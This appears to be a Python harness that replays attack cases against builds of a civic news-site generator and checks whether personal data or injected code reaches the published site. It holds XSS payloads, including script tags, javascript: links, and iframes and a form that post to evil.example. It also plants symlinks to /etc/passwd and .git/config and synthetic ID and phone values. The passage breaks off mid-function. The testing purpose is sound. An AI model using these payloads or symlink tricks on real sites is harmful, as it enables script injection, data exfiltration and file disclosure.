"""Replay every kind of attack issue 12 names against real builds, and count what got through.

Each attempt starts from a copy of the example project whose ``site/`` holds
a clean build, changes one thing, runs the real command (``mkdocs build
--strict`` or ``warta ...``) in a subprocess with a time limit, and is judged
by an oracle that does not ask Warta: it reads every byte of the published
folder (gzip members unpacked, HTML entities, percent-escapes, JSON escapes
and Unicode format characters undone, NFKC, case and look-alike letters
folded, everything but letters and digits dropped) and looks for the
planted value. So a NIK typed ``5371–0123…`` or a name split by a soft
hyphen counts as leaked however the page spells it.

Outcomes, one column each (an attempt may score in several):

* ``published-bad``: a build that had to be refused finished, or what it
  planted (a script, an outside request, a list) reached the site;
* ``leaked``: a planted identifier or non-consented name reached a
  published byte, or a message printed it in full;
* ``traceback``: Python's traceback reached the user;
* ``site-lost``: ``site/`` is not one whole build afterwards (a failed build
  changed it, a staging folder was left, a deployer's file vanished);
* ``hang``: the command outlived its time limit;
* ``refused-good``: an input that is right was refused.

Usage: ``python tools/attacks.py [--jobs N] [--only KIND ...] [--list]``.
Linux only; the mount and permission cases need root (``setpriv`` drops to
``nobody``) and say "not run" otherwise. Not part of ``make test``: the
same cases are the tests in tests/ (bad_inputs/, test_privacy.py,
test_staging.py, test_staff_attempts.py); this replays them end to end.
"""

from __future__ import annotations

import argparse
import concurrent.futures
import gzip
import html
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import unicodedata
import urllib.parse
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from tests.conftest import project_copy, snapshot  # noqa: E402
from tests.test_bad_inputs import CASES, apply_steps, load_case  # noqa: E402
from tests.test_staff_attempts import ATTEMPTS as CLI_ATTEMPTS  # noqa: E402

EVENT = "content/events/2025-09-03-bangun-ntt-kupang.yml"
PAGE = "content/pages/tentang.md"
PROGRAM = "content/programs/bangun-ntt.yml"
PHOTO = ROOT / "examples" / "sleman" / "content" / "media"
ENV = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "DISABLE_MKDOCS_2_WARNING": "true", "PYTHONDONTWRITEBYTECODE": "1"}
LIMIT = 120.0  # seconds; the example builds in about 2
OUTCOMES = ("published-bad", "leaked", "traceback", "site-lost", "hang", "refused-good")

Setup = Callable[[Path], None]


# --------------------------------------------------------------------------
# The oracle

# Letters that look Latin but are not (Cyrillic, Greek): a name typed with them reads the same.
_LOOKALIKE = str.maketrans("аеорсхуіјѕԁһкмнтвАЕОРСХУІЈЅԀҺКМНТВαοιρνκτυχ",
                           "aeopcxyijsdhkmhtbaeopcxyijsdhkmhtbaoipvktyx")
_DIGITLIKE = str.maketrans("oil", "011")


def skeleton(text: str) -> str:
    """Only the letters and digits a reader would read in `text`, however it is encoded or disguised."""
    text = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), text)
    for _ in range(2):  # &amp;#64; is an @ escaped twice
        text = urllib.parse.unquote(html.unescape(text))
    text = unicodedata.normalize("NFKC", text)
    text = "".join(c for c in text if unicodedata.category(c) != "Cf").casefold().translate(_LOOKALIKE)
    return re.sub(r"[^0-9a-z]+", "", text)


def published(site: Path) -> str:
    """Every file below `site`, each reduced to its skeleton (with and without its tags), joined by a separator no skeleton holds."""
    parts = []
    for path in sorted(site.rglob("*")):
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            while data[:2] == b"\x1f\x8b":
                data = gzip.decompress(data)
            text = data.decode("utf-8", "replace")
            # Also as a reader sees it: a value split by tags reads whole.
            parts += [skeleton(text), skeleton(re.sub(r"<[^>]*>", "", text))]
    return "|".join(parts)


def found(secret: str, text: str) -> bool:
    """Whether `secret` (as a person wrote it) is in the skeleton `text`; digits also where O stands for 0."""
    want = skeleton(secret)
    return want in text or (want.isdigit() and want in text.translate(_DIGITLIKE))


# --------------------------------------------------------------------------
# Attempts


@dataclass(frozen=True)
class Attempt:
    kind: str
    name: str
    setup: Setup
    refuse: bool | None = True  # True: must be refused; False: must build; None: either, if nothing gets through
    secrets: tuple[str, ...] = ()  # never published, never printed in full
    marks: tuple[str, ...] = ()  # raw text that must not reach the published HTML
    argv: tuple[str, ...] = ()  # a warta command instead of a build
    code: int = 1  # its exit status
    run: Callable[[Path], dict[str, bool]] | None = None  # a case with its own procedure
    user: str | None = None  # run as this user (needs root)
    root_only: bool = False


@dataclass
class Result:
    attempt: Attempt
    scores: set[str] = field(default_factory=set)
    detail: str = ""
    skipped: str = ""


def _event(change: Callable[[dict[str, Any]], None], path: str = EVENT) -> Setup:
    def setup(root: Path) -> None:
        file = root / path
        data = yaml.safe_load(file.read_text(encoding="utf-8"))
        change(data)
        file.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return setup


def _private(data: dict[str, Any]) -> None:
    data["recipients"]["publish_names"] = False
    for payment in data.get("payments", ()):
        payment["publish_names"] = False


def _both(*setups: Setup) -> Setup:
    def setup(root: Path) -> None:
        for step in setups:
            step(root)
    return setup


def _append(path: str, text: str) -> Setup:
    return lambda root: (root / path).open("a", encoding="utf-8").write(text)


def _write(path: str, data: str | bytes) -> Setup:
    def setup(root: Path) -> None:
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return setup


def _photo(data: dict[str, Any], **fields: str) -> None:
    data["photos"] = [{"file": "foto-serah.jpg", "caption": "Penyerahan kartu di Balai Kota Kupang.",
                       "credit": "Humas Pemkot Kupang", "alt": "Wali Kota menyerahkan kartu", **fields}]


def _with_photo(root: Path) -> None:
    media = root / "content" / "media"
    media.mkdir(exist_ok=True)
    shutil.copy(sorted(PHOTO.glob("*.jpg"))[0], media / "foto-serah.jpg")


# Where a person's data can be typed: a record field, a hand-written page, a photo's words.
FIELDS: dict[str, Callable[[str], Setup]] = {
    "purpose": lambda s: _event(lambda d: d.update(purpose=f"{d['purpose']} bagi {s}")),
    "quote": lambda s: _event(lambda d: d["speakers"][0]["quotes"].__setitem__(0, f"{d['speakers'][0]['quotes'][0]} Hubungi {s}.")),
    "remarks": lambda s: _event(lambda d: d["speakers"][1].update(remarks=f"{d['speakers'][1]['remarks']} bersama {s}")),
    "title": lambda s: _event(lambda d: d.update(title=f"Kartu BPJS untuk {s}")),
    "venue": lambda s: _event(lambda d: d.update(venue=f"Rumah {s}, Kupang")),
    "activity": lambda s: _event(lambda d: d.update(activity=f"{d['activity']} kepada {s}")),
    "correction": lambda s: _event(lambda d: d.update(corrections=[{"date": "2025-09-04", "note": f"Nama penerima {s} diperbaiki."}])),
    "program": lambda s: _event(lambda d: d.update(summary=f"{d['summary']} Contoh: {s}."), PROGRAM),
    "caption": lambda s: _both(_with_photo, _event(lambda d: _photo(d, caption=f"Penyerahan kartu kepada {s}."))),
    "alt": lambda s: _both(_with_photo, _event(lambda d: _photo(d, alt=f"{s} menerima kartu"))),
    "page": lambda s: _append(PAGE, f"\nUntuk keterangan, hubungi {s}.\n"),
}

NIK = "5371012345670001"
PHONE = "81234567890"
EMAIL = "nina.laurina@gmail.com"
IDENTIFIERS: dict[str, tuple[str, str]] = {  # how it is typed, what it is
    "nik_plain": ("NIK 5371012345670001", NIK),
    "nik_en_dashes": ("NIK 5371–0123–4567–0001", NIK),
    "nik_slashes": ("5371/0123/4567/0001", NIK),
    "nik_spaced_dashes": ("5371 - 0123 - 4567 - 0001", NIK),
    "nik_zero_width": ("NIK 5371\u200b0123\u200b4567\u200b0001", NIK),
    "nik_glued_label": ("NIK5371012345670001", NIK),
    "nik_o_for_zero": ("NIK 5371O1234567OOO1", NIK),
    "nik_full_width": ("ＮＩＫ ５３７１０１２３４５６７０００１", NIK),
    "kk_number": ("No. KK 5371010101230004", "5371010101230004"),
    "phone_en_dashes": ("0812–3456–7890", PHONE),
    "phone_plus62_brackets": ("+62 (812) 3456-7890", PHONE),
    "phone_slashes": ("0812/3456/7890", PHONE),
    "phone_glued_hp": ("HP0812 3456 7890", PHONE),
    "phone_wa_label": ("WA 0812-3456-7890", PHONE),
    "phone_dots": ("0812.3456.7890", PHONE),
    "landline_e164": ("+62218350123", "218350123"),
    "email_plain": ("nina.laurina@gmail.com", EMAIL),
    "email_at_brackets": ("nina.laurina [at] gmail [dot] com", EMAIL),
    "email_at_parens": ("nina.laurina(at)gmail(dot)com", EMAIL),
    "email_full_width_at": ("nina.laurina＠gmail.com", EMAIL),
    "email_spaced_at": ("nina.laurina @ gmail.com", EMAIL),
    "street_without_no": ("Jl. Sudirman 12 RT 003/RW 005", "jlsudirman12rt003rw005"),
    "rt_rw_dotted": ("R.T. 003/R.W. 005 Kelurahan Naikoten", "rt003rw005"),
    "rukun_tetangga": ("Rukun Tetangga 03 Rukun Warga 05", "rukuntetangga03rukunwarga05"),
    "birth_date_abbreviated": ("Lhr 12 Agu 1980", "lhr12agu1980"),
    "birth_place_date": ("lahir di Kupang, 3 Jan. 1975", "lahirdikupang3jan1975"),
    "bank_account": ("rekening Bank NTT 0012345678901", "0012345678901"),
}

NAME = "Onanda Laurina Koby"
NAMES: dict[str, tuple[str, str]] = {
    "plain": (NAME, NAME),
    "upper_case": (NAME.upper(), NAME),
    "hyphens": ("Onanda-Laurina-Koby", NAME),
    "dots": ("Onanda.Laurina.Koby", NAME),
    "underscores": ("Onanda_Laurina_Koby", NAME),
    "honorific_ibu": ("Ibu Onanda Laurina Koby", NAME),
    "honorific_mama": ("Mama Onanda Laurina Koby", NAME),
    "honorific_almarhumah": ("Almh. Onanda Laurina Koby", NAME),
    "two_first_words": ("Onanda Laurina", "Onanda Laurina"),
    "two_last_words": ("Laurina Koby", "Laurina Koby"),
    "zero_width": ("Onanda\u200b Laurina Koby", NAME),
    "soft_hyphen": ("Onan\u00adda Laurina Koby", NAME),
    "bidi_override": ("\u202eOnanda Laurina Koby\u202c", NAME),
    "full_width": ("Ｏｎａｎｄａ Ｌａｕｒｉｎａ Ｋｏｂｙ", NAME),
    "cyrillic_lookalike": ("Оnanda Laurina Kоby", NAME),
    "extra_spaces": ("Onanda   Laurina  Koby", NAME),
}
NAME_FIELDS = ("purpose", "quote", "title", "page", "caption", "correction")


def leak_attempts() -> Iterator[Attempt]:
    for label, (typed, value) in IDENTIFIERS.items():
        for where in ("purpose", "quote", "page"):
            yield Attempt("identifier", f"{label}_in_{where}", FIELDS[where](typed), refuse=None, secrets=(value,))
    for where in ("remarks", "title", "venue", "activity", "correction", "program", "caption", "alt"):
        yield Attempt("identifier", f"nik_in_{where}", FIELDS[where](IDENTIFIERS["nik_en_dashes"][0]), refuse=None,
                      secrets=(NIK,))
    private = _event(_private)
    for label, (typed, value) in NAMES.items():
        for where in NAME_FIELDS:
            yield Attempt("name", f"{label}_in_{where}", _both(private, FIELDS[where](typed)), refuse=None,
                          secrets=(value,))
    for where in ("remarks", "venue", "activity", "program", "alt"):
        yield Attempt("name", f"plain_in_{where}", _both(private, FIELDS[where](NAME)), refuse=None, secrets=(NAME,))
    yield Attempt("name", "private_names_only", private, refuse=False,
                  secrets=("Onanda Laurina Koby", "Jonathan Agustinus Tali", "Moses Kadji", "Susilowati"))
    yield Attempt("name", "name_in_event_file_name", _both(private, _rename(EVENT, EVENT.replace(
        "bangun-ntt-kupang", "santunan-onanda-laurina-koby"))), secrets=(NAME,))
    yield Attempt("name", "two_words_in_event_file_name", _both(private, _rename(EVENT, EVENT.replace(
        "bangun-ntt-kupang", "laurina-koby"))), secrets=("Laurina Koby",))
    # Consented in the first event only: the second names other people, and NAME in its prose.
    yield Attempt("name", "consented_name_in_another_events_article", _second_event(
        {"purpose": f"memberikan bantuan kepada {NAME} dan warga lain",
         "recipients": {"group": "pekerja rentan", "publish_names": True, "by_kecamatan": {"Alak": ["Maria Goreti Ulu"]}}}),
        refuse=None, run=_not_in_second_article)
    yield Attempt("name", "masked_list_beside_consented_spelling", _second_event(
        {"recipients": {"group": "pekerja rentan", "publish_names": False,
                        "by_kecamatan": {"Alak": [NAME, "Maria Goreti Ulu"]}}}), refuse=None, run=_no_mask_beside_name)


def _rename(path: str, to: str) -> Setup:
    return lambda root: (root / path).rename(root / to)


SECOND = "content/events/2025-09-10-bangun-ntt-alak.yml"


def _second_event(changes: dict[str, Any]) -> Setup:
    """A second event of the same programme a week later, with `changes`; the first keeps its consented names."""
    def setup(root: Path) -> None:
        data = yaml.safe_load((root / EVENT).read_text(encoding="utf-8"))
        data.update(date="2025-09-10", payments=[], **changes)
        (root / SECOND).write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return setup


def _article(site: Path, slug: str) -> str:
    return skeleton((site / "berita" / slug / "index.html").read_text(encoding="utf-8"))


def _not_in_second_article(work: Path) -> dict[str, bool]:
    run = _build(work)
    scores = _judge_build(work, run, refuse=None)
    if run.returncode == 0:
        scores["leaked"] = scores.get("leaked", False) or found(NAME, _article(work / "site", "2025-09-10-bangun-ntt-alak"))
    return scores


def _no_mask_beside_name(work: Path) -> dict[str, bool]:
    run = _build(work)
    scores = _judge_build(work, run, refuse=None)
    if run.returncode == 0:
        page = (work / "site" / "kecamatan" / "alak" / "index.html").read_text(encoding="utf-8")
        scores["leaked"] = scores.get("leaked", False) or ("O*** L*** K***" in page and NAME in page) \
            or found("Maria Goreti Ulu", published(work / "site"))
    return scores


# Hand-written pages: content, not code.
PAGES_CODE: dict[str, str] = {
    "script_tag": "<script>alert('XSSMARK')</script>",
    "script_upper_case": "<SCRIPT>alert('XSSMARK')</SCRIPT>",
    "iframe": '<iframe src="https://evil.example/XSSMARK"></iframe>',
    "event_handler": '<img src="x.png" onerror="alert(\'XSSMARK\')">',
    "javascript_link": '[klik](javascript:alert("XSSMARK"))',
    "javascript_link_html": '<a href="JaVaScRiPt:alert(1)">XSSMARK</a>',
    "outside_image": "![logo](https://evil.example/XSSMARK.png)",
    "outside_image_html": '<img src="//evil.example/XSSMARK.png" alt="x">',
    "style_import": "<style>@import url(https://evil.example/XSSMARK.css);</style>",
    "style_attribute_url": '<p style="background:url(https://evil.example/XSSMARK)">x</p>',
    "object_embed": '<object data="https://evil.example/XSSMARK.swf"></object>',
    "form_post": '<form action="https://evil.example/XSSMARK"><input name="nik"></form>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/XSSMARK">',
    "svg_onload": '<svg onload="alert(\'XSSMARK\')"></svg>',
    "data_uri_script": '<a href="data:text/html,<script>XSSMARK</script>">x</a>',
}


def page_attempts() -> Iterator[Attempt]:
    for label, code in PAGES_CODE.items():
        yield Attempt("page-code", label, _append(PAGE, f"\n{code}\n"), marks=("XSSMARK",))
    yield Attempt("page-code", "shadows_an_article", _write(
        "content/pages/berita/2025-09-03-bangun-ntt-kupang.md", "# Berita palsu\n\nXSSMARK\n"), marks=("XSSMARK",))
    yield Attempt("page-code", "shadows_the_news_index", _write("content/pages/berita/index.md", "# Palsu\n\nXSSMARK\n"),
                  marks=("XSSMARK",))
    yield Attempt("page-code", "shadows_the_data_download", _write("content/pages/data/kegiatan.csv", "XSSMARK\n"),
                  marks=("XSSMARK",))
    yield Attempt("page-code", "javascript_file", _write("content/pages/x.js", "alert('XSSMARK')\n"), marks=("XSSMARK",))
    yield Attempt("page-code", "css_file", _write("content/pages/x.css", "body{background:url(//evil.example/XSSMARK)}\n"),
                  marks=("XSSMARK",))
    yield Attempt("page-code", "plain_page_is_fine", _append(PAGE, "\nKantor buka pukul 08.00–15.00 WITA.\n"), refuse=False)
    # Every kind of file a page folder may hold, with a NIK in it: each is linted like a page.
    places = {
        "html_comment": (PAGE, f"\n<!-- NIK {NIK} -->\n"),
        "data_attribute": (PAGE, f'\n<span data-nik="{NIK}">x</span>\n'),
        "title_attribute": (PAGE, f'\n<abbr title="NIK {NIK}">x</abbr>\n'),
        "tel_link": (PAGE, "\n[telepon](tel:+6281234567890)\n"),
        "wa_me_link": (PAGE, "\n[WhatsApp](https://wa.me/6281234567890)\n"),
        "mailto_link": (PAGE, f"\n[surel](mailto:{EMAIL})\n"),
        "split_across_tags": (PAGE, "\nNIK <b>5371</b><i>0123</i><b>4567</b><i>0001</i>\n"),
        "entities": (PAGE, "\nNIK &#53;&#51;&#55;&#49;012345670001\n"),
    }
    secret_of = {"tel_link": PHONE, "wa_me_link": PHONE, "mailto_link": EMAIL}
    for label, (path, text) in places.items():
        yield Attempt("published-file", label, _append(path, text), refuse=None, secrets=(secret_of.get(label, NIK),))
    for ext in ("txt", "htm", "svg", "vcf", "json", "xml", "csv"):
        body = {"svg": f'<svg xmlns="http://www.w3.org/2000/svg"><text>NIK {NIK}</text></svg>',
                "vcf": f"BEGIN:VCARD\nFN:Warga\nTEL:0812-3456-7890\nNOTE:{NIK}\nEND:VCARD\n"}.get(ext, f"NIK {NIK}\n")
        yield Attempt("published-file", f"nik_in_a_{ext}_file", _write(f"content/pages/lampiran.{ext}", body),
                      refuse=None, secrets=(NIK,))
    yield Attempt("published-file", "nik_in_an_asset", _write("content/pages/assets/catatan.txt", f"{NIK}\n"),
                  refuse=None, secrets=(NIK,))
    yield Attempt("published-file", "nik_in_page_excluded_from_search", _write(
        "content/pages/arsip-lama.md", f"---\nsearch:\n  exclude: true\n---\n\n# Arsip\n\nNIK {NIK}\n"),
        refuse=None, secrets=(NIK,))


MARKDOWN_STARTS = {"numbered": "1. Pertamaxq", "dash": "- butirxq", "plus": "+ plusxq", "year": "2025. Tahunxq",
                   "heading": "# Judulxq", "quote": "> kutipxq", "table": "| a | xq |"}


def markdown_attempts() -> Iterator[Attempt]:
    for label, text in MARKDOWN_STARTS.items():
        for where, setup in (("program", _event(lambda d, t=text: d.update(summary=t), PROGRAM)),
                             ("correction", _event(lambda d, t=text: d.update(
                                 corrections=[{"date": "2025-09-04", "note": t}]))),
                             ("remarks", _event(lambda d, t=text: d["speakers"][1].update(remarks=t)))):
            yield Attempt("markdown", f"{label}_in_{where}", setup, refuse=None, run=_stays_text(text))


def _stays_text(text: str) -> Callable[[Path], dict[str, bool]]:
    word = re.search(r"\w*xq", text).group(0)
    block = re.compile(rf"<(li|h[1-6]|blockquote|td|th)[^>]*>\s*(<p>)?\s*{re.escape(word)}")

    def run(work: Path) -> dict[str, bool]:
        result = _build(work)
        scores = _judge_build(work, result, refuse=None)
        if result.returncode == 0:
            pages = (p.read_text(encoding="utf-8") for p in (work / "site").rglob("*.html"))
            scores["published-bad"] = scores.get("published-bad", False) or any(block.search(p) for p in pages)
        return scores
    return run


def machine_attempts() -> Iterator[Attempt]:
    yield Attempt("machine", "real_device_node_as_event", lambda root: os.mknod(
        root / "content/events/2025-09-04-nol.yml", 0o644 | 0o020000, os.makedev(1, 5)), root_only=True)
    yield Attempt("machine", "real_device_node_as_page", lambda root: os.mknod(
        root / "content/pages/nol.md", 0o644 | 0o020000, os.makedev(1, 5)), root_only=True)
    yield Attempt("machine", "page_linked_to_git_config", _symlink("content/pages/x.txt", "../../.git/config"),
                  marks=("[core]",))
    yield Attempt("machine", "page_folder_linked_outside", _symlink("content/pages/luar", "/etc"), marks=("root:x:0",))
    yield Attempt("machine", "media_photo_linked_to_dev_zero", _both(_with_photo, lambda root: (
        (root / "content/media/foto-serah.jpg").unlink(), os.symlink("/dev/zero", root / "content/media/foto-serah.jpg")),
        _event(lambda d: _photo(d))))
    yield Attempt("machine", "media_photo_is_a_pipe", _both(lambda root: (root / "content/media").mkdir(exist_ok=True),
                                                            lambda root: os.mkfifo(root / "content/media/foto-serah.jpg"),
                                                            _event(lambda d: _photo(d))))
    yield Attempt("machine", "templates_folder_linked_outside", _symlink("templates/theme/x.html", "/etc/passwd"),
                  refuse=None, marks=("root:x:0",))


def _symlink(path: str, to: str) -> Setup:
    return lambda root: os.symlink(to, root / path)


def corpus_attempts() -> Iterator[Attempt]:
    """tests/bad_inputs/: every case whose verdict does not hang on a fixed "today"."""
    for path in CASES:
        case = load_case(path)
        if "today" in case and not case.get("build"):
            continue
        steps = case["steps"]
        yield Attempt("corpus", path.stem, lambda root, s=steps: apply_steps(root / "content", s),
                      refuse=bool(case["expect"]))


def cli_attempts() -> Iterator[Attempt]:
    for name, setup, argv, code, _ in CLI_ATTEMPTS:
        yield Attempt("cli", name, lambda root, s=setup: s(root), argv=tuple(argv), code=code)
    yield Attempt("cli", "render_nik_refused_without_echo",
                  FIELDS["purpose"](IDENTIFIERS["nik_en_dashes"][0]), argv=("render", EVENT),
                  secrets=(NIK,))
    yield Attempt("cli", "check_private_name_refused_without_echo", _both(_event(_private), FIELDS["quote"](NAME)),
                  argv=("check",), secrets=(NAME,))


def site_attempts() -> Iterator[Attempt]:
    yield Attempt("site", "two_overlapping_builds", _nothing, run=_overlapping)
    for n in range(18):
        yield Attempt("site", f"kill_9_after_{0.15 + n * 0.12:.2f}s", _nothing, run=_killed(0.15 + n * 0.12))
    yield Attempt("site", "site_is_a_symlink", _nothing, run=_site_symlink)
    yield Attempt("site", "site_is_a_mount_point", _nothing, run=_site_mount, root_only=True)
    yield Attempt("site", "parent_is_read_only", _nothing, run=_read_only_parent, root_only=True)
    yield Attempt("site", "parent_not_writable_by_the_user", _nothing, run=_unwritable_parent, root_only=True)
    yield Attempt("site", "deployers_files_kept", _nothing, run=_deployers_files)
    yield Attempt("site", "leftover_of_a_killed_build", _nothing, run=_leftover)
    yield Attempt("site", "staging_name_planted_as_symlink", _nothing, run=_planted_staging)
    yield Attempt("site", "lock_planted_as_symlink", _nothing, run=_planted_lock)
    for label, env in (("time_zone_jayapura", {"TZ": "Asia/Jayapura"}), ("c_locale", {"LC_ALL": "C", "LANG": "C"}),
                       ("hash_seed", {"PYTHONHASHSEED": "12345"}), ("other_folder", {})):
        yield Attempt("site", f"same_bytes_{label}", _nothing, run=_same_bytes(env, move=label == "other_folder"))


def _nothing(root: Path) -> None:
    pass


# --------------------------------------------------------------------------
# Running and judging


def _command(work: Path, site: Path | None = None) -> list[str]:
    return [sys.executable, "-m", "mkdocs", "build", "--strict", "-q", "-f", str(work / "proyek" / "mkdocs.yml"),
            "-d", str(site or work / "site")]


def _spawn(argv: list[str], cwd: Path, env: dict[str, str] | None = None, user: str | None = None) -> subprocess.Popen:
    if user:
        argv = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", *argv]
    return subprocess.Popen(argv, cwd=cwd, env={**ENV, **(env or {})}, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, start_new_session=True)


@dataclass
class Ran:
    returncode: int
    out: str
    timed_out: bool


def _wait(proc: subprocess.Popen, limit: float = LIMIT) -> Ran:
    try:
        out, err = proc.communicate(timeout=limit)
        return Ran(proc.returncode, out + err, False)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        out, err = proc.communicate()
        return Ran(-9, out + err, True)


def _build(work: Path, env: dict[str, str] | None = None, user: str | None = None) -> Ran:
    return _wait(_spawn(_command(work), work / "proyek", env, user))


def _whole(work: Path, site: Path | None = None) -> bool:
    """`site/` holds one build, and nothing a build leaves behind is beside it."""
    site = site or work / "site"
    strays = [p.name for p in site.parent.iterdir() if p.name.startswith(f".{site.name}-")]
    return (site / "index.html").is_file() and (site / "sitemap.xml").is_file() and not strays


def _judge_build(work: Path, run: Ran, refuse: bool | None, before: dict[str, bytes] | None = None) -> dict[str, bool]:
    before = before if before is not None else json_snapshot(work)
    scores = {"hang": run.timed_out, "traceback": "Traceback (most recent call last)" in run.out}
    if run.returncode != 0:
        scores["site-lost"] = snapshot(work / "site") != before or not _whole(work)
        scores["refused-good"] = refuse is False
    else:
        scores["site-lost"] = not _whole(work)
        scores["published-bad"] = refuse is True
    return scores


def json_snapshot(work: Path) -> dict[str, bytes]:
    """The clean build every attempt starts from (kept beside the copy)."""
    return {k: bytes.fromhex(v) for k, v in json.loads((work / "before.json").read_text()).items()}


def _first_problem(said: str) -> str:
    """The line that says what went wrong: a traceback's last line, or the first `path:line: pesan`."""
    lines = [ln.strip() for ln in said.splitlines() if ln.strip()]
    if any(ln.startswith("Traceback") for ln in lines):
        return lines[-1][:160]
    return next((ln for ln in lines if re.match(r"\S+:(\d+:)? ", ln) and not ln.startswith("PERINGATAN")), "")[:160]


def attempt_result(attempt: Attempt, base: Path) -> Result:
    result = Result(attempt)
    if attempt.root_only and os.geteuid() != 0:
        result.skipped = "needs root"
        return result
    with tempfile.TemporaryDirectory(prefix="warta-attack-") as tmp:
        work = Path(tmp)
        os.chmod(work, 0o755)
        shutil.copytree(base, work, dirs_exist_ok=True, symlinks=True)
        attempt.setup(work / "proyek")
        if attempt.run:
            scores = attempt.run(work)
        elif attempt.argv:
            run = _wait(_spawn([sys.executable, "-m", "generator", *attempt.argv], work / "proyek"), 60)
            scores = {"hang": run.timed_out, "traceback": "Traceback (most recent call last)" in run.out,
                      "published-bad": run.returncode == 0 and attempt.code != 0,
                      "refused-good": run.returncode != attempt.code and attempt.code == 0}
            if run.returncode not in (attempt.code, -9):
                result.detail = f"exit {run.returncode}, expected {attempt.code}"
                scores["published-bad" if attempt.code else "refused-good"] = True
        else:
            run = _build(work)
            scores = _judge_build(work, run, attempt.refuse)
            if run.returncode == 0 and (attempt.secrets or attempt.marks):
                text = published(work / "site")
                scores["leaked"] = any(found(s, text) for s in attempt.secrets)
                raw = "\n".join(p.read_text("utf-8", "replace") for p in (work / "site").rglob("*") if p.is_file())
                scores["published-bad"] = scores["published-bad"] or any(m in raw for m in attempt.marks)
            if attempt.secrets:
                said = skeleton(run.out)
                scores["leaked"] = scores.get("leaked", False) or any(found(s, said) for s in attempt.secrets)
            result.detail = _first_problem(run.out) if run.returncode else ""
        if attempt.argv and attempt.secrets:
            scores["leaked"] = any(found(s, skeleton(run.out)) for s in attempt.secrets)
    result.scores = {k for k, v in scores.items() if v}
    return result


# --------------------------------------------------------------------------
# Cases with their own procedure


def _overlapping(work: Path) -> dict[str, bool]:
    reference = snapshot(work / "site")
    first, second = _spawn(_command(work), work / "proyek"), _spawn(_command(work), work / "proyek")
    runs = [_wait(first), _wait(second)]
    return {"hang": any(r.timed_out for r in runs), "traceback": any("Traceback" in r.out for r in runs),
            "site-lost": snapshot(work / "site") != reference or not _whole(work)}


def _killed(after: float) -> Callable[[Path], dict[str, bool]]:
    def run(work: Path) -> dict[str, bool]:
        old = snapshot(work / "site")
        FIELDS["purpose"]("warga desil satu")(work / "proyek")
        proc = _spawn(_command(work), work / "proyek")
        time.sleep(after)
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        now = snapshot(work / "site")
        lost = not (work / "site" / "index.html").is_file() or (now != old and b"warga desil satu" not in now.get(
            "berita/2025-09-03-bangun-ntt-kupang/index.html", b""))
        again = _build(work)  # a later build must not trip over what the killed one left
        return {"site-lost": lost or again.returncode != 0 or not _whole(work), "hang": again.timed_out,
                "traceback": "Traceback" in again.out}
    return run


def _refused_and_untouched(work: Path, run: Ran, watched: Path, before: dict[str, bytes]) -> dict[str, bool]:
    return {"hang": run.timed_out, "traceback": "Traceback" in run.out, "published-bad": run.returncode == 0,
            "site-lost": snapshot(watched) != before}


def _site_symlink(work: Path) -> dict[str, bool]:
    real = work / "elsewhere"
    (work / "site").rename(real)
    os.symlink(real, work / "site")
    before = snapshot(real)
    return _refused_and_untouched(work, _build(work), real, before)


def _site_mount(work: Path) -> dict[str, bool]:
    real = work / "disk"
    real.mkdir()
    subprocess.run(["mount", "--bind", str(real), str(work / "site")], check=True)
    try:
        before = snapshot(work / "site")
        return _refused_and_untouched(work, _build(work), work / "site", before)
    finally:
        subprocess.run(["umount", str(work / "site")], check=True)


def _read_only_parent(work: Path) -> dict[str, bool]:
    out = work / "ro"
    out.mkdir()
    shutil.move(work / "site", out / "site")
    subprocess.run(["mount", "--bind", "-o", "ro", str(out), str(out)], check=True)
    try:
        before = snapshot(out / "site")
        run = _wait(_spawn(_command(work, out / "site"), work / "proyek"))
        return _refused_and_untouched(work, run, out / "site", before)
    finally:
        subprocess.run(["umount", str(out)], check=True)


def _unwritable_parent(work: Path) -> dict[str, bool]:
    out = work / "terbit"
    out.mkdir()
    shutil.move(work / "site", out / "site")
    for path in [work, *work.rglob("*")]:
        if not path.is_symlink():
            os.chmod(path, 0o777 if path.is_dir() else 0o666)
    os.chmod(out, 0o555)
    before = snapshot(out / "site")
    run = _wait(_spawn(_command(work, out / "site"), work / "proyek", {"HOME": str(work)}, user="nobody"))
    return _refused_and_untouched(work, run, out / "site", before)


def _deployers_files(work: Path) -> dict[str, bool]:
    keep = {".git/HEAD": b"ref: refs/heads/gh-pages\n", ".htaccess": b"Options -Indexes\n",
            ".well-known/security.txt": b"Contact: mailto:ppid@contoh.go.id\n"}
    for name, data in keep.items():
        (work / "site" / name).parent.mkdir(parents=True, exist_ok=True)
        (work / "site" / name).write_bytes(data)
    run = _build(work)
    kept = all((work / "site" / n).is_file() and (work / "site" / n).read_bytes() == d for n, d in keep.items())
    return {"hang": run.timed_out, "traceback": "Traceback" in run.out, "site-lost": run.returncode != 0 or not kept}


def _leftover(work: Path) -> dict[str, bool]:
    (work / ".site-lama-deadbeef").mkdir()
    (work / ".site-baru-cafebabe").mkdir()
    (work / ".site-baru-cafebabe" / "sisa.html").write_text("sisa")
    run = _build(work)
    return {"hang": run.timed_out, "traceback": "Traceback" in run.out,
            "site-lost": run.returncode != 0 or not _whole(work) or (work / "site" / "sisa.html").exists()}


def _planted_staging(work: Path) -> dict[str, bool]:
    target = work / "korban"
    target.mkdir()
    (target / "penting.txt").write_text("jangan dihapus")
    for suffix in ("baru-00000000", "lama-00000000"):
        os.symlink(target, work / f".site-{suffix}")
    run = _build(work)
    return {"hang": run.timed_out, "traceback": "Traceback" in run.out,
